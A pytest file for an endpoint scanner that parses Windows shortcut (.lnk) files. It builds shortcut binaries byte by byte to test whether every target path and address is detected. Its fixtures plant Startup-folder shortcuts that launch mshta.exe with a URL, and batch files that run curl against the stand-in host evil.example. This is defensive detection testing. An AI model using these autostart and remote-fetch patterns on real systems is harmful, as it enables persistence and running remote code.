"""Shortcuts: every path and address that they name, in each of the forms in which they name it."""

from __future__ import annotations

import struct
from typing import Any
from uuid import UUID

import pytest

from quetsach.endpoint.files import shortcut as reader
from tests.endpoint import world
from tests.endpoint.plants import shortcut
from tests.endpoint.test_files import EICAR, EICAR_RULE
from tests.endpoint.test_list_places import STARTUP
from tests.endpoint.test_silent_limits import both, gaps, indicators


def _item(kind: int, body: bytes) -> bytes:
    return struct.pack("<HB", len(body) + 3, kind) + body


def by_items(*names: str, arguments: str = "") -> str:
    """A shortcut that has its target only as a list of items of the shell, as droppers write it."""
    items = _item(0x1F, b"\x50" + UUID("20D04FE0-3AEA-1069-A2D8-08002B30309D").bytes_le)
    items += _item(0x2F, b"C:\\".ljust(22, b"\0"))
    items += b"".join(_item(0x32, bytes(11) + name.encode() + b"\0\0") for name in names)
    flags = 0x80 | 1 | (0x20 if arguments else 0)
    head = struct.pack("<I16sI52x", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags)
    texts = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le") if arguments else b""
    body = head + struct.pack("<H", len(items) + 2) + items + b"\0\0" + texts + bytes(4)
    return body.decode("utf-8", "surrogateescape")


def on_a_server() -> bytes:
    network = struct.pack("<5I", 0, 2, 20, 0, 0) + b"\\\\may-chu\\chung\0"
    body = (
        struct.pack("<7I", 28 + len(network) + 6, 28, 2, 0, 0, 28, 28 + len(network)) + network + b"x.exe\0"
    )
    return (
        struct.pack("<I16sI52x", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), 2) + body + bytes(4)
    )


@pytest.mark.recorded
def test_a_shortcut_that_lists_its_target_is_read() -> None:
    found, twin = both(
        lambda url: {"files": {rf"{STARTUP}\a.lnk": by_items("Windows", "mshta.exe", arguments=url)}}
    )
    assert (indicators(found), str(twin.verdict)) == ({"evil.example"}, "clean")
    told = world.planted({"files": {rf"{STARTUP}\a.lnk": by_items("xa", "X.EXE"), r"C:\xa\X.EXE": EICAR}})
    assert str(world.look_at_recording(told, rules=(EICAR_RULE,)).verdict) == "found"


def test_a_shortcut_to_a_server_names_it() -> None:
    assert reader.read(on_a_server()).paths == (r"\\may-chu\chung\x.exe",)
    told = reader.read(by_items(arguments="-x http://a.example").encode("utf-8", "surrogateescape"))
    assert (told.paths, told.arguments, told.is_whole) == ((), "-x http://a.example", True)


BAT = r"C:\ProgramData\cap nhat.bat"


def _long(short: str, name: str) -> bytes:
    """An item with a short name, and its long one in the extension 0xBEEF0004 of Windows 10."""
    first = bytes(11) + short.encode() + b"\0" * (2 - len(short) % 2)
    rest = struct.pack("<HI", 9, 0xBEEF0004) + bytes(38) + name.encode("utf-16-le") + bytes(4)
    return _item(0x32, first + struct.pack("<H", len(rest) + 2) + rest)


def _link(*items: bytes, info: str = "", variables: str = "") -> str:
    flags = 0x80 | (1 if items else 0) | (2 if info else 0)
    head = struct.pack("<I16sI52x", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags)
    listed = b"".join(items) + b"\0\0"
    parts = [head, struct.pack("<H", len(listed)) + listed if items else b""]
    if info:
        base = info.encode() + b"\0\0"
        parts.append(struct.pack("<7I", 28 + len(base), 28, 1, 0, 28, 0, 27 + len(base)) + base)
    if variables:
        block = variables.encode().ljust(260, b"\0") + variables.encode("utf-16-le").ljust(520, b"\0")
        parts.append(struct.pack("<II", 0x314, 0xA0000001) + block)
    return (b"".join(parts) + bytes(4)).decode("utf-8", "surrogateescape")


_PC = _item(0x1F, b"\x50" + UUID("20D04FE0-3AEA-1069-A2D8-08002B30309D").bytes_le)
_DOWNLOADS = _item(0x1F, b"\x50" + UUID("374DE290-123F-4565-9164-39C4925E467B").bytes_le)
_DOCUMENTS = _item(0x1F, b"\x50" + UUID("FDD39AD0-238F-46AF-ADB4-6C85480369C7").bytes_le)
_NOWHERE = _item(0x1F, b"\x50" + UUID(int=7).bytes_le)
_C, _DATA = _item(0x2F, b"C:\\".ljust(22, b"\0")), _item(0x31, bytes(11) + b"ProgramData\0")
_BAT = _item(0x32, bytes(11) + b"cap nhat.bat\0\0")
EXPLORER = r"C:\Windows\explorer.exe"
FACES: dict[str, tuple[str, str]] = {
    "items behind other information": (_link(_PC, _C, _DATA, _BAT, info=EXPLORER), BAT),
    "items behind information that leads nowhere": (_link(_PC, _C, _DATA, _BAT, info=r"C:\gone\x.exe"), BAT),
    "variables behind other information": (
        _link(info=EXPLORER, variables=r"%ProgramData%\cap nhat.bat"), BAT,
    ),
    "information before other items": (_link(_PC, _C, _item(0x31, bytes(11) + b"Windows\0"), info=BAT), BAT),
    "a long name": (_link(_PC, _C, _DATA, _long("CAPNHA~1.BAT", "cap nhat.bat")), BAT),
    "a folder of the shell": (_link(_DOWNLOADS, _BAT), r"C:\Users\an\Downloads\cap nhat.bat"),
    "the desktop": (_link(_BAT), r"C:\Users\an\Desktop\cap nhat.bat"),
}  # fmt: skip


@pytest.mark.recorded
@pytest.mark.parametrize("face", FACES)
def test_every_path_of_a_shortcut_is_followed(face: str) -> None:
    link, path = FACES[face]
    found, twin = both(lambda url: {"files": {rf"{STARTUP}\a.lnk": link, path: f"curl {url}\r\n"}})
    assert (indicators(found), indicators(twin)) == ({"evil.example"}, set())
    # A start from the folder for downloads is a sign by itself.
    assert str(twin.verdict) == ("clean" if path == BAT else "check")


@pytest.mark.recorded
def test_a_shortcut_to_an_address_is_compared() -> None:
    def plant(url: str) -> dict[str, Any]:
        address = _item(0x61, b"\x80\0\0" + f"{url}\0".encode("utf-16-le"))
        return {"files": {rf"{STARTUP}\a.lnk": _link(address)}}

    found, twin = both(plant)
    assert (indicators(found), str(twin.verdict)) == ({"evil.example"}, "clean")


@pytest.mark.recorded
@pytest.mark.parametrize(
    ("link", "reason"),
    [
        (_link(_NOWHERE, _BAT), "unplaced"),
        (_link(_NOWHERE, _BAT, info=EXPLORER), "unplaced"),
        (_link(_DOCUMENTS, _BAT), "unplaced"),
        (_link(_NOWHERE, _BAT, info=BAT), ""),
        (_link(_NOWHERE), ""),
        (_link(_PC, _C, _DATA, _BAT)[:-20], "damaged"),
        (_link(info=EXPLORER, variables=EXPLORER)[:-300], "damaged"),
    ],
)
def test_what_a_shortcut_does_not_tell_is_named(link: str, reason: str) -> None:
    done = world.look_at_recording(world.planted({"files": {rf"{STARTUP}\a.lnk": link, BAT: "echo"}}))
    assert str(done.verdict) == ("unknown" if reason else "clean")
    assert (("autostart", reason, rf"{STARTUP}\a.lnk") in gaps(done)) == bool(reason)


@pytest.mark.recorded
@pytest.mark.parametrize("folder", [STARTUP, "E:"])
def test_a_damaged_shortcut_is_named(folder: str) -> None:
    whole = shortcut(r"C:\Program Files\A\a.exe", "-quiet")
    for content, verdict in ((whole, "clean"), (whole[:90], "unknown"), ("khong phai loi tat", "clean")):
        done = world.look_at_recording(world.planted({"files": {rf"{folder}\a.lnk": content}}))
        assert str(done.verdict) == verdict
